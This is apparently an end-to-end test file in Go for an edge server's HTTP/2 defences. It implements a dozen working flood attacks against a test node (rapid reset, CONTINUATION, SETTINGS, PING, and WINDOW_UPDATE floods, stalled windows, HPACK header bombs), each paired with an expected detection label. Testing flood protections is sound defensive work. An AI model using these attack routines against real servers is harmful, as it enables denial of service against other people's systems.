package e2e

import (
	"bufio"
	"bytes"
	"context"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2Flood is a connection that sends frames as it likes.
type h2Flood struct {
	*http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
	id      uint32 // of the last stream, plus one
}

// next returns the next stream's identifier.
func (f *h2Flood) next() uint32 {
	f.id += 2
	return f.id - 1
}

// get returns the header block of a GET, with more fields.
func (f *h2Flood) get(target string, more ...string) []byte {
	f.block.Reset()
	pairs := append([]string{":method", "GET", ":scheme", "https", ":authority", "edge.test", ":path", target}, more...)
	for i := 0; i < len(pairs); i += 2 {
		_ = f.encoder.WriteField(hpack.HeaderField{Name: pairs[i], Value: pairs[i+1]}) // into memory
	}
	return f.block.Bytes()
}

// headers opens a stream.
func (f *h2Flood) headers(id uint32, target string, end bool, more ...string) {
	_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: f.get(target, more...), EndStream: end, EndHeaders: true})
}

// h2Flooding makes an attack of a connection that sends the same again and again
// until it is cut. A deaf one does not read.
func h2Flooding(deaf bool, first, again func(f *h2Flood), settings ...http2.Setting) func(context.Context, *victim) {
	return func(ctx context.Context, v *victim) {
		conn, err := dialTLS(ctx, v.node, v.tls, "h2")
		if err != nil {
			return
		}
		defer conn.Close()
		defer context.AfterFunc(ctx, func() { conn.Close() })()
		conn.SetDeadline(time.Now().Add(6 * time.Second))
		out := bufio.NewWriterSize(conn, 16<<10)
		f := &h2Flood{Framer: http2.NewFramer(out, conn)}
		f.encoder = hpack.NewEncoder(&f.block)
		_, _ = out.WriteString(http2.ClientPreface) // errors come at Flush
		_ = f.WriteSettings(settings...)
		cut := make(chan struct{})
		go func() {
			defer close(cut)
			if !deaf {
				io.Copy(io.Discard, conn)
			}
		}()
		if first != nil {
			first(f)
		}
		for range 500 { // of many frames each
			for range 20 {
				if again != nil {
					again(f)
				}
			}
			if out.Flush() != nil || again == nil {
				break
			}
		}
		if again == nil { // the node cuts it, or time is up
			select {
			case <-ctx.Done():
			case <-time.After(3 * time.Second):
			}
		}
		conn.Close()
		<-cut
	}
}

func attacksHTTP2() []attack {
	slow := respond("delay", "1s", "body", "x", "header", "Cache-Control:no-store")
	open := func(f *h2Flood) { f.headers(f.next(), "/_origin/upload", false) }
	raw := func(kind http2.FrameType, flags http2.Flags, id uint32, payload string) func(*h2Flood) {
		return func(f *h2Flood) { _ = f.WriteRawFrame(kind, flags, id, []byte(payload)) }
	}
	many := func(target string) func(f *h2Flood) {
		return func(f *h2Flood) {
			for range 100 {
				f.headers(f.next(), target, true)
			}
		}
	}
	return []attack{
		{"h2: rapid reset", h2Flooding(false, nil, func(f *h2Flood) {
			id := f.next()
			f.headers(id, slow, true)
			_ = f.WriteRSTStream(id, http2.ErrCodeCancel)
		}), "flood_reset", "h2"},
		{"h2: made you reset", h2Flooding(false, nil, func(f *h2Flood) {
			id := f.next()
			f.headers(id, slow, true)
			_ = f.WriteRawFrame(http2.FrameWindowUpdate, 0, id, make([]byte, 4))
		}), "flood_reset", "h2"},
		{"h2: CONTINUATION", h2Flooding(false, raw(http2.FrameHeaders, 0, 1, "\x82"), raw(http2.FrameContinuation, 0, 1, "\x00\x01a\x01b")), "flood_header", "h2"},
		{"h2: SETTINGS", h2Flooding(false, nil, raw(http2.FrameSettings, 0, 0, "\x00\x03\x00\x00\x00\x01")), "flood_settings", "h2"},
		{"h2: SETTINGS, unread", h2Flooding(true, nil, raw(http2.FrameSettings, 0, 0, "\x00\x03\x00\x00\x00\x01")), "flood_settings", "h2"},
		{"h2: PING", h2Flooding(false, nil, raw(http2.FramePing, 0, 0, "12345678")), "flood_ping", "h2"},
		{"h2: empty frames", h2Flooding(false, open, raw(http2.FrameData, 0, 1, "")), "flood_empty", "h2"},
		{"h2: PRIORITY", h2Flooding(false, nil, raw(http2.FramePriority, 0, 1, "\x00\x00\x00\x03\x01")), "flood_priority", "h2"},
		{"h2: unknown frames", h2Flooding(false, nil, raw(0x77, 0, 0, "")), "flood_unknown", "h2"},
		{"h2: WINDOW_UPDATE", h2Flooding(false, nil, raw(http2.FrameWindowUpdate, 0, 0, "\x00\x00\x00\x01")), "flood_window", "h2"},
		{"h2: windows that stay shut", h2Flooding(false, many("/video/1MB.bin"), nil, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}), "stalled", "h2"},
		{"h2: open windows, unread", h2Flooding(true, func(f *h2Flood) {
			_ = f.WriteWindowUpdate(0, 1<<30)
			many("/video/1MB.bin")(f)
		}, nil, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30}), "", ""},
		{"h2: header bombs", h2Flooding(false, func(f *h2Flood) {
			f.headers(f.next(), "/video/1kB.bin", true, "x-bomb", strings.Repeat("b", 3900))
		}, func(f *h2Flood) {
			bomb := append(f.get("/video/1kB.bin"), bytes.Repeat([]byte{0x80 | 62}, 15_000)...)
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.next(), BlockFragment: bomb, EndStream: true, EndHeaders: true})
		}), "", ""},
	}
}
